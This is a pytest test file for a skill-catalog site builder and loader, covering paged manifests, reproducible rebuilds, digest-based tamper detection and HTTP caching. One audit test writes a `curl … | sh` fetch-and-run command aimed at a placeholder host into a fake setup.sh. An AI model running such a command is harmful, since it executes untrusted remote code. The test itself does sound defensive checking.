"""A catalog above ``shard_above`` skills: skills.json in pages, one entry file per skill (issue 29).

The example catalog is built twice, whole (the default ``shard_above``) and paged
(``shard_above: 3``: pages of 3 entries); the paged files must say exactly what the whole
manifest says, and the loader must answer the same on both, fetching only what it needs.
"""
from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from support import CountingServer, EXAMPLES, tree_bytes, write_skill
from skillsite.config import SiteConfig
from skillsite.loader import Catalog, CatalogFormatError, FetchError, IntegrityError, LoaderError, NotFoundError
from skillsite.publish.build import build

PAGED = SiteConfig(shard_above=3)


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def read_json(path: Path) -> Any:
    return json.loads(path.read_text("utf-8"))


@pytest.fixture(scope="module")
def sites(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The example catalog built whole and paged, each in a folder called ``_site``."""
    built = {}
    for name, config in (("whole", SiteConfig()), ("paged", PAGED)):
        out = tmp_path_factory.mktemp(name) / "_site"
        assert build([EXAMPLES], out, config).ok
        built[name] = out
    return built


@pytest.fixture
def own_paged(sites: dict[str, Path], tmp_path: Path) -> Path:
    """A private copy of the paged site, for tests that tamper with it."""
    return Path(shutil.copytree(sites["paged"], tmp_path / "_site"))


def all_entries(site: Path) -> list[dict[str, Any]]:
    """Every entry of a paged site, read from its files: the root's, then each page's."""
    root = read_json(site / "skills.json")
    return root["skills"] + [e for record in root["pages"]
                             for e in read_json(site / record["entries"]["url"])["skills"]]


# ---------------------------------------------------------------- the files


def test_a_small_catalog_stays_one_file(sites: dict[str, Path]) -> None:
    site = sites["whole"]
    manifest = read_json(site / "skills.json")
    assert manifest["format_version"] == 1 and "pages" not in manifest and len(manifest["skills"]) == 13
    assert not (site / "manifest").exists() and not list(site.glob("skills/**/entry.json"))


def test_the_pages_hold_exactly_the_whole_manifest(sites: dict[str, Path]) -> None:
    whole, paged = read_json(sites["whole"] / "skills.json"), read_json(sites["paged"] / "skills.json")
    assert paged["format_version"] == 2 and [e["id"] for e in paged["skills"]] == [
        "api-design-checklist", "code-review", "docker-image-slimming"]
    assert [(r["page"], r["count"]) for r in paged["pages"]] == [(2, 3), (3, 3), (4, 3), (5, 1)]
    assert all_entries(sites["paged"]) == whole["skills"]
    same = ("$schema", "format", "generator", "generated_at", "site", "digest", "counts")
    assert {k: paged[k] for k in same} == {k: whole[k] for k in same}
    # above shard_above the search index is sharded too: the root points at its meta file
    assert set(paged["search"]) == {"sharded", "sha256", "size"} and "model" in whole["search"]
    assert list(paged) == ["$schema", "format", "format_version", "generator", "generated_at", "site", "digest",
                           "counts", "skills", "pages", "search"]


def test_every_file_is_named_with_its_digest(sites: dict[str, Path]) -> None:
    """Root -> page and index (sha256, bytes, range) -> entry file (sha256): the chain the loader checks."""
    site = sites["paged"]
    root = read_json(site / "skills.json")
    for record in root["pages"]:
        for ref in (record["entries"], record["index"]):
            data = (site / ref["url"]).read_bytes()
            assert (sha(data), len(data)) == (ref["sha256"], ref["bytes"])
        page, index = read_json(site / record["entries"]["url"]), read_json(site / record["index"]["url"])
        assert page["page"] == index["page"] == record["page"]
        assert [r["id"] for r in index["skills"]] == [e["id"] for e in page["skills"]]
        assert (page["skills"][0]["id"], page["skills"][-1]["id"]) == (record["first"], record["last"])
        for row, entry in zip(index["skills"], page["skills"]):
            data = (site / "skills" / row["id"] / "entry.json").read_bytes()
            assert sha(data) == row["sha256"] and json.loads(data) == entry and row["name"] == entry["name"]
    for entry in root["skills"]:  # page 1's skills have theirs too
        assert read_json(site / "skills" / entry["id"] / "entry.json") == entry


def test_every_paged_file_fits_the_schema(sites: dict[str, Path]) -> None:
    site = sites["paged"]
    root = read_json(site / "skills.json")
    schema = read_json(site / root["$schema"])
    jsonschema.Draft202012Validator(schema).validate(root)

    def valid(document: Any, definition: str) -> None:
        jsonschema.Draft202012Validator({"$defs": schema["$defs"], "$ref": f"#/$defs/{definition}"}).validate(document)

    for record in root["pages"]:
        valid(read_json(site / record["entries"]["url"]), "page_file")
        valid(read_json(site / record["index"]["url"]), "index_file")
    for entry_file in site.glob("skills/**/entry.json"):
        valid(read_json(entry_file), "skill")
    with pytest.raises(jsonschema.ValidationError):  # a paged root without its pages is no catalog
        jsonschema.Draft202012Validator(schema).validate({k: v for k, v in root.items() if k != "pages"})


def test_a_paged_build_is_reproducible(sites: dict[str, Path], tmp_path: Path) -> None:
    again = tmp_path / "_site"
    assert build([EXAMPLES], again, PAGED).ok
    assert tree_bytes(again) == tree_bytes(sites["paged"])


def test_a_rebuild_rewrites_only_the_pieces_of_the_changed_skill(tmp_path: Path) -> None:
    """Entry files, pages and indexes are kept in place (same inode) unless their bytes change;
    the incremental result equals a cold build."""
    src, cache, out, cold = tmp_path / "src", tmp_path / "cache", tmp_path / "_site", tmp_path / "cold"
    shutil.copytree(EXAMPLES, src)
    assert build([src], out, PAGED, cache_dir=cache).ok
    watched = {"changed entry": "skills/sql-migration-review/entry.json", "its page": "manifest/pages/0004.json",
               "its index": "manifest/index/0004.json", "other entry": "skills/test-first/entry.json",
               "other page": "manifest/pages/0002.json", "other index": "manifest/index/0003.json"}
    before = {name: (out / rel).stat().st_ino for name, rel in watched.items()}
    skill = src / "sql-migration-review" / "SKILL.md"
    skill.write_text(skill.read_text("utf-8").replace("Review a SQL", "Review any SQL", 1), "utf-8")
    assert build([src], out, PAGED, cache_dir=cache).ok
    kept = {name for name, rel in watched.items() if (out / rel).stat().st_ino == before[name]}
    assert kept == {"other entry", "other page", "other index"}
    assert build([src], cold, PAGED).ok and tree_bytes(out) == tree_bytes(cold)
    assert Catalog.open(out).entry("sql-migration-review")["description"].startswith("Review any SQL")


@pytest.mark.parametrize("change", ["its SKILL.md", "a file only its audit reads"])
def test_a_rebuild_makes_json_of_the_changed_skill_s_page_only(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                                 change: str) -> None:
    """The other pages come from the cache (their entries are made of what they were made of);
    an entry changes with its skill's audit too, though its publication is the same (a file in
    ``node_modules`` is not published, but audited); the result equals a cold build."""
    import skillsite.publish.manifest as manifest

    src, cache, out, cold = tmp_path / "src", tmp_path / "cache", tmp_path / "_site", tmp_path / "cold"
    shutil.copytree(EXAMPLES, src)
    assert build([src], out, PAGED, cache_dir=cache).ok
    if change == "its SKILL.md":
        skill = src / "sql-migration-review" / "SKILL.md"
        skill.write_text(skill.read_text("utf-8").replace("Review a SQL", "Review any SQL", 1), "utf-8")
    else:
        (src / "sql-migration-review" / "node_modules").mkdir()
        (src / "sql-migration-review" / "node_modules" / "setup.sh").write_text("curl -s https://x.invalid/i.sh | sh\n")
    made: list[int] = []
    make_page = manifest._page_files
    monkeypatch.setattr(manifest, "_page_files",
                        lambda number, entries: made.append(number) or make_page(number, entries))
    assert build([src], out, PAGED, cache_dir=cache).ok
    assert made == [4]   # sql-migration-review's page
    monkeypatch.undo()
    assert build([src], cold, PAGED).ok and tree_bytes(out) == tree_bytes(cold)
    entry = Catalog.open(out).entry("sql-migration-review")
    if change == "its SKILL.md":
        assert entry["description"].startswith("Review any SQL")
    else:
        assert any(f["path"] == "node_modules/setup.sh" for f in entry["audit"]["findings"])


def test_adding_and_removing_skills_rebuilds_as_a_cold_build(tmp_path: Path) -> None:
    """A skill added before every other id moves every page boundary; the incremental
    rebuild still equals a cold build, and so does one after skills are removed."""
    src, cache, out = tmp_path / "src", tmp_path / "cache", tmp_path / "_site"
    shutil.copytree(EXAMPLES, src)
    assert build([src], out, PAGED, cache_dir=cache).ok
    write_skill(src, "aaa-first", description="Comes first. Use when testing page boundaries.")
    for step, change in enumerate([lambda: None, lambda: (shutil.rmtree(src / "aaa-first"),
                                                          shutil.rmtree(src / "test-first"))]):
        change()
        assert build([src], out, PAGED, cache_dir=cache).ok
        cold = tmp_path / f"cold-{step}"
        assert build([src], cold, PAGED).ok and tree_bytes(out) == tree_bytes(cold)
    assert not (out / "skills/test-first").exists() and not (out / "skills/aaa-first").exists()


def test_crossing_shard_above_rebuilds_as_a_cold_build(tmp_path: Path) -> None:
    """One skill more than ``shard_above`` pages the catalog, one fewer makes it whole again:
    the rebuilds equal cold builds (no page, index or entry file left behind)."""
    config = SiteConfig(shard_above=13)   # the 13 example skills: whole
    src, cache, out = tmp_path / "src", tmp_path / "cache", tmp_path / "_site"
    shutil.copytree(EXAMPLES, src)
    assert build([src], out, config, cache_dir=cache).ok
    assert read_json(out / "skills.json")["format_version"] == 1
    for step, (change, version) in enumerate([(lambda: write_skill(src, "zz-last"), 2),
                                              (lambda: shutil.rmtree(src / "zz-last"), 1)]):
        change()
        assert build([src], out, config, cache_dir=cache).ok
        cold = tmp_path / f"cold-{step}"
        assert build([src], cold, config).ok and tree_bytes(out) == tree_bytes(cold)
        assert read_json(out / "skills.json")["format_version"] == version
    assert not (out / "manifest").exists() and not list(out.glob("skills/**/entry.json"))


def test_a_bundled_entry_json_is_refused_only_when_paged(tmp_path: Path) -> None:
    """The catalog writes skills/<id>/entry.json itself in a paged catalog (SK009 for a bundled one)."""
    src = tmp_path / "src"
    shutil.copytree(EXAMPLES, src)
    (src / "test-first" / "entry.json").write_text('{"mine": true}\n')
    for config, refused in ((SiteConfig(), False), (PAGED, True)):
        out = tmp_path / f"out-{refused}"
        result = build([src], out, config)
        assert result.ok and any(d.code == "SK009" for d in result.diagnostics) is refused
        published = read_json(out / "skills/test-first/entry.json")
        assert published == {"mine": True} if not refused else published["id"] == "test-first"


# ---------------------------------------------------------------- the loader, on both forms


def path_free(text: str, site: Path) -> str:
    return text.replace(str(site), "<site>")


def test_the_loader_answers_the_same_on_both_forms(sites: dict[str, Path]) -> None:
    whole, paged = Catalog.open(sites["whole"]), Catalog.open(sites["paged"])
    assert len(paged) == len(whole) == 13 and paged.status == "local"
    for query in ("roll back a release", "review a migration", "docker image", "changelog"):
        assert paged.search(query, k=5) == whole.search(query, k=5)
    for skill_id in [e["id"] for e in whole.skills]:
        assert paged.entry(skill_id) == whole.entry(skill_id)
        try:
            expected = whole.load(skill_id)
        except LoaderError as exc:   # a skill above max_risk
            with pytest.raises(type(exc), match=str(exc)):
                paged.load(skill_id)
            continue
        got = paged.load(skill_id)
        assert (got.raw, got.sub_skills, got.resources) == (expected.raw, expected.sub_skills, expected.resources)
        assert path_free(got.xml, sites["paged"]) == path_free(expected.xml, sites["whole"])
    assert path_free(paged.prompt(env={}), sites["paged"]) == path_free(whole.prompt(env={}), sites["whole"])
    assert paged.skill_status(env={}) == whole.skill_status(env={})
    in_order = Catalog.open(sites["paged"])   # nothing read yet: each entry's page fetched as reached
    assert [in_order.entry_at(n) for n in range(-1, 15)] == [None, *whole.skills, None, None]
    assert paged.skills == whole.skills and paged.entries == whole.entries


def test_a_root_page_smaller_than_the_others_reads_as_the_whole_catalog(sites: dict[str, Path], tmp_path: Path,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """The root holds fewer entries than a page (25 against 250 by default): pages of 4 after a
    root of 1 here; every lookup, the list and searches still answer as the whole catalog."""
    from skillsite.publish import catalog_files

    monkeypatch.setattr(catalog_files, "entries_per_page", lambda skills: 4)
    monkeypatch.setattr(catalog_files, "ROOT_PAGE_SIZE", 1)
    out = tmp_path / "_site"
    assert build([EXAMPLES], out, SiteConfig(shard_above=4)).ok
    root = read_json(out / "skills.json")
    assert len(root["skills"]) == 1 and [r["count"] for r in root["pages"]] == [4, 4, 4]
    assert all_entries(out) == read_json(sites["whole"] / "skills.json")["skills"]
    whole, paged = Catalog.open(sites["whole"]), Catalog.open(out)
    for skill_id in [e["id"] for e in whole.skills]:
        assert paged.entry(skill_id) == whole.entry(skill_id)
    assert paged.search("roll back a release", k=5) == whole.search("roll back a release", k=5)
    assert paged.skills == whole.skills


def test_lookups_by_name_and_membership_on_a_paged_catalog(sites: dict[str, Path]) -> None:
    catalog = Catalog.open(sites["paged"])
    assert catalog.manifest_entry("version-bump").id == "release-manager/version-bump"   # a name, on page 4
    assert "changelog" in catalog and "release-manager/changelog" in catalog
    assert "no-such-skill" not in catalog and "zzz" not in catalog
    with pytest.raises(NotFoundError, match="no skill 'nope'"):
        catalog.load("nope")


def test_install_of_a_skill_whose_sub_skills_are_on_other_pages(sites: dict[str, Path], tmp_path: Path) -> None:
    whole, paged = Catalog.open(sites["whole"], max_risk="high"), Catalog.open(sites["paged"], max_risk="high")
    a, b = whole.install("release-manager", tmp_path / "a"), paged.install("release-manager", tmp_path / "b")
    assert tree_bytes(a) == tree_bytes(b) and (b / "version-bump" / "prerelease" / "SKILL.md").is_file()


# ---------------------------------------------------------------- tampering


def test_a_tampered_entry_file_is_refused(own_paged: Path) -> None:
    path = own_paged / "skills/sql-migration-review/entry.json"
    entry = json.loads(path.read_text())
    entry["sha256"] = "0" * 64          # to make a hostile SKILL.md pass
    path.write_text(json.dumps(entry))
    with pytest.raises(IntegrityError, match="entry file of sql-migration-review does not match"):
        Catalog.open(own_paged).load("sql-migration-review")
    assert Catalog.open(own_paged).load("test-first").id == "test-first"   # the other skills still load


def test_a_tampered_page_or_index_is_refused(own_paged: Path) -> None:
    page = own_paged / "manifest/pages/0003.json"
    page.write_bytes(page.read_bytes().replace(b"release of a library", b"release of a LIBRARY", 1))
    with pytest.raises(IntegrityError, match=r"page 3 \(manifest/pages/0003.json\) of .* does not match"):
        Catalog.open(own_paged).skills
    index_file = own_paged / "manifest/index/0004.json"   # made to vouch for a hostile entry file
    index = read_json(index_file)
    index["skills"][1]["sha256"] = "0" * 64
    index_file.write_text(json.dumps(index, separators=(",", ":")) + "\n")
    with pytest.raises(IntegrityError, match=r"index of page 4 \(manifest/index/0004.json\) of .* does not match"):
        Catalog.open(own_paged).load("sql-migration-review")


def test_a_root_whose_pages_are_out_of_order_is_refused(own_paged: Path) -> None:
    root = read_json(own_paged / "skills.json")
    root["pages"][0], root["pages"][1] = root["pages"][1], root["pages"][0]
    (own_paged / "skills.json").write_text(json.dumps(root))
    with pytest.raises(CatalogFormatError, match="pages\\[0\\] is page 3, expected 2"):
        Catalog.open(own_paged)
    root["pages"][0]["page"], root["pages"][1]["page"] = 2, 3
    (own_paged / "skills.json").write_text(json.dumps(root))
    with pytest.raises(CatalogFormatError, match="page 3 starts at 'house-style'"):
        Catalog.open(own_paged)


def test_a_page_that_holds_other_skills_than_its_record_says_is_refused(own_paged: Path) -> None:
    """Right bytes, wrong page: a root that names page 2's file as page 3's."""
    root = read_json(own_paged / "skills.json")
    root["pages"][1]["entries"] = root["pages"][0]["entries"]
    (own_paged / "skills.json").write_text(json.dumps(root))
    with pytest.raises(CatalogFormatError, match="is page 2, the catalog lists it as page 3"):
        Catalog.open(own_paged).skills


def test_an_entry_file_that_disagrees_with_its_page_is_refused(own_paged: Path) -> None:
    """A root, index and entry file made consistent with each other, but not with the page the
    root also vouches for: the loader notices when it reads both."""
    entry_file = own_paged / "skills/sql-migration-review/entry.json"
    entry = read_json(entry_file)
    entry["description"] = "Something else entirely."
    entry_file.write_text(json.dumps(entry, separators=(",", ":")) + "\n")
    index_file = own_paged / "manifest/index/0004.json"
    index = read_json(index_file)
    next(r for r in index["skills"] if r["id"] == entry["id"])["sha256"] = sha(entry_file.read_bytes())
    index_file.write_text(json.dumps(index, separators=(",", ":")) + "\n")
    root = read_json(own_paged / "skills.json")
    root["pages"][2]["index"].update(sha256=sha(index_file.read_bytes()), bytes=index_file.stat().st_size)
    (own_paged / "skills.json").write_text(json.dumps(root))
    catalog = Catalog.open(own_paged)
    assert catalog.entry("sql-migration-review")["description"] == "Something else entirely."
    with pytest.raises(CatalogFormatError, match="page 4 and the entry file of sql-migration-review disagree"):
        catalog.skills


def test_a_page_and_its_index_listing_other_skills_are_refused_when_both_are_read(own_paged: Path) -> None:
    """An index that names a skill otherwise than its page (each file pinned by the root): lookups
    by name answered from the index, lists from the page.  Reading both is now refused."""
    index_file = own_paged / "manifest/index/0004.json"
    index = read_json(index_file)
    index["skills"][0]["name"] = "someone-else"
    index_file.write_text(json.dumps(index, separators=(",", ":")) + "\n")
    root = read_json(own_paged / "skills.json")
    root["pages"][2]["index"].update(sha256=sha(index_file.read_bytes()), bytes=index_file.stat().st_size)
    (own_paged / "skills.json").write_text(json.dumps(root))
    catalog = Catalog.open(own_paged)
    assert "someone-else" in catalog  # every index read
    with pytest.raises(CatalogFormatError, match="page 4 and its index list other skills"):
        catalog.skills
    catalog = Catalog.open(own_paged)
    catalog.skills  # every page read, then every index (as verify reads them)
    with pytest.raises(CatalogFormatError, match="page 4 and its index list other skills"):
        catalog.entry_files()


# ---------------------------------------------------------------- over HTTP


@pytest.fixture
def served(sites: dict[str, Path]):
    server = CountingServer(sites["paged"])
    yield server
    server.stop()


def test_open_fetches_the_root_and_load_one_entry_file(served: CountingServer, tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    catalog = Catalog.open(served.url, cache_dir=cache)
    assert served.take() == [("/skills.json", 200)] and len(catalog) == 13
    catalog.load("sql-migration-review")            # page 4: its index once, then its entry file
    assert served.take() == [("/manifest/index/0004.json", 200), ("/skills/sql-migration-review/entry.json", 200),
                             ("/skills/sql-migration-review/SKILL.md", 200)]
    prerelease = "/skills/release-manager/version-bump/prerelease/"
    catalog.load("release-manager/version-bump/prerelease")   # page 4 again: the entry file only
    assert served.take() == [(prerelease + "entry.json", 200), (prerelease + "SKILL.md", 200)]
    catalog.load("code-review")                     # page 1: the root has its entry
    assert served.take() == [("/skills/code-review/SKILL.md", 200)]
    again = Catalog.open(served.url, cache_dir=cache)   # revalidated; everything else is in the cache by sha256
    again.load("sql-migration-review")
    assert served.take() == [("/skills.json", 304)] and again.status == "not-modified"


def test_what_needs_every_entry_fetches_each_page_once(served: CountingServer, tmp_path: Path) -> None:
    catalog = Catalog.open(served.url, cache_dir=tmp_path / "cache")
    served.take()
    catalog.prompt(env={})
    catalog.skill_status(env={})
    assert sorted(served.take()) == [(f"/manifest/pages/{n:04d}.json", 200) for n in (2, 3, 4, 5)]
    assert catalog.load("test-first").id == "test-first"   # known from its page: no entry file
    assert served.take() == [("/skills/test-first/SKILL.md", 200)]


def test_a_knowledge_document_of_a_skill_loaded_costs_the_document_alone(served: CountingServer,
                                                                         tmp_path: Path) -> None:
    """knowledge() read every page (26 MB at 20,000 skills) to find the skill naming the path; the
    entries known already are asked first, so after loading a skill its documents cost one fetch
    each, and only a path none of them names reads the pages."""
    catalog = Catalog.open(served.url, cache_dir=tmp_path / "cache")
    catalog.load("prod-db-restore")
    served.take()
    assert catalog.knowledge("runbooks/database-restore.md").startswith(b"#")
    assert served.take() == [("/knowledge/runbooks/database-restore.md", 200)]
    with pytest.raises(NotFoundError, match="no knowledge document 'no/such.md'"):
        catalog.knowledge("no/such.md")
    assert sorted(served.take()) == [(f"/manifest/pages/{n:04d}.json", 200) for n in (2, 3, 4, 5)]


def test_a_paged_catalog_works_offline_from_the_cache(served: CountingServer, tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    first = Catalog.open(served.url, cache_dir=cache)
    block, skill = first.prompt(env={}), first.load("sql-migration-review").body
    served.stop()
    with pytest.warns(Warning, match="using the cached copy"):
        offline = Catalog.open(served.url, cache_dir=cache, timeout=2)
    assert offline.status == "offline"
    assert offline.prompt(env={}) == block and offline.load("sql-migration-review").body == skill


# ---------------------------------------------------------------- the package's other readers


@pytest.mark.parametrize("command", [["prompt"], ["status"], ["tool", "--style", "anthropic"], ["budget"],
                                     ["search", "roll back a release"], ["show", "version-bump"],
                                     ["status", "--active", "changelog"]])
def test_the_catalog_commands_say_the_same_on_both_forms(sites: dict[str, Path], command: list[str]) -> None:
    from click.testing import CliRunner

    from skillsite.cli import main

    said = {}
    for name, site in sites.items():
        result = CliRunner().invoke(main, [*command, "--catalog", str(site)])
        assert result.exit_code == 0, result.output
        said[name] = path_free(result.output, site)
    assert said["paged"] == said["whole"]


def test_the_mcp_skills_extension_serves_the_same_on_both_forms(sites: dict[str, Path]) -> None:
    from skillsite.mcp.skills import SkillsIndex   # the extension's logic, without the mcp package

    served = {}
    for name, site in sites.items():
        index = SkillsIndex(Catalog.open(site), page_size=4)
        pages, cursor = [], None
        while True:
            page = index.list_page(cursor)
            pages.append(page)
            if "nextCursor" not in page:
                break
            cursor = page["nextCursor"]
        builds = {page.pop("nextCursor").partition(".")[2] for page in pages if "nextCursor" in page}
        assert builds == {hashlib.sha256((site / "skills.json").read_bytes()).hexdigest()[:12]}
        served[name] = (pages, index.entry("skill://release-manager/SKILL.md"))
    assert served["paged"] == served["whole"] and len(served["paged"][0]) == 3


def test_a_failed_read_of_the_indexes_leaves_names_to_be_read_again(sites: dict[str, Path]) -> None:
    """The names a paged catalog's indexes give were kept as none when reading an index failed:
    every later lookup by name found nothing (another spelling's lookup read them again)."""
    from skillsite.agent.catalog_entries import CatalogEntries

    catalog = Catalog.open(sites["paged"])
    failed: list[str] = []

    def fetch_failing_once(path: str, sha256: str, size: int | None, what: str) -> bytes:
        if "index" in path and not failed:
            failed.append(path)
            raise FetchError(f"cannot fetch {path}: the host is busy", path)
        return catalog._files.verified(path, sha256, size, what)

    entries = CatalogEntries(catalog.manifest, fetch_failing_once, catalog.location)
    with pytest.raises(FetchError, match="busy"):
        entries.named("house-style")
    assert failed and entries.named("house-style") == ["house-style"]
